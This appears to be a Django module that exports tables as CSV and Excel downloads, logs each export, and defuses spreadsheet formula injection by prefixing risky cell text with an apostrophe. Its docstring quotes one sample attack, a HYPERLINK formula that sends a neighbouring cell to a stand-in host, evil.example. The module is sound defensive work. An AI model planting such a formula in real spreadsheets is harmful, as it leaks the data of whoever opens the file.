"""Tables as CSV and Excel downloads: one helper for every export in the project.

Cells are written as text, never as formulas: a value a person typed that starts with = + - @ (or a
tab or carriage return) is prefixed with an apostrophe, the OWASP advice against spreadsheet
formula injection — `=HYPERLINK("http://evil.example/?"&C2, …)` in a best-practice note must never
become a live link that leaks the next cell when a manager opens the file."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.styles import Font

from .access_log.services import record_access
from .models import AccessRecord, Council, User

FORMATS = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal | dt.date | None


def safe_cell(value: Cell) -> Cell:
    """The value as it may go into a spreadsheet: text that a spreadsheet would run is made inert."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in headers])
    for row in rows:
        writer.writerow(["" if v is None else safe_cell(v) for v in row])
    # With a byte-order mark, Excel opens the file as UTF-8 (names with accents stay readable).
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(headers: Sequence[str], rows: Iterable[Sequence[Cell]], *, title: str = "Data") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title[:31] or "Data"
    sheet.append([safe_cell(h) for h in headers])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.data_type = "s"
    for row in rows:
        sheet.append([safe_cell(v) for v in row])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, whatever it starts with
    sheet.freeze_panes = "A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def table_response(
    *,
    headers: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    fmt: str,
    filename: str,
    title: str = "Data",
    council: Council,
    by: User,
) -> HttpResponse:
    """A download of the table as `fmt` ("csv" or "xlsx"), named `filename` plus the extension, noted
    in the council's access log as exported by `by` (every export goes through here, so none is missed)."""
    rows = list(rows)
    content = csv_bytes(headers, rows) if fmt == "csv" else xlsx_bytes(headers, rows, title=title)
    record_access(
        council=council,
        by=by,
        action=AccessRecord.Action.EXPORTED,
        kind=AccessRecord.Kind.EXPORT,
        label=f"{filename}.{fmt}",
    )
    response = HttpResponse(content, content_type=FORMATS[fmt])
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response
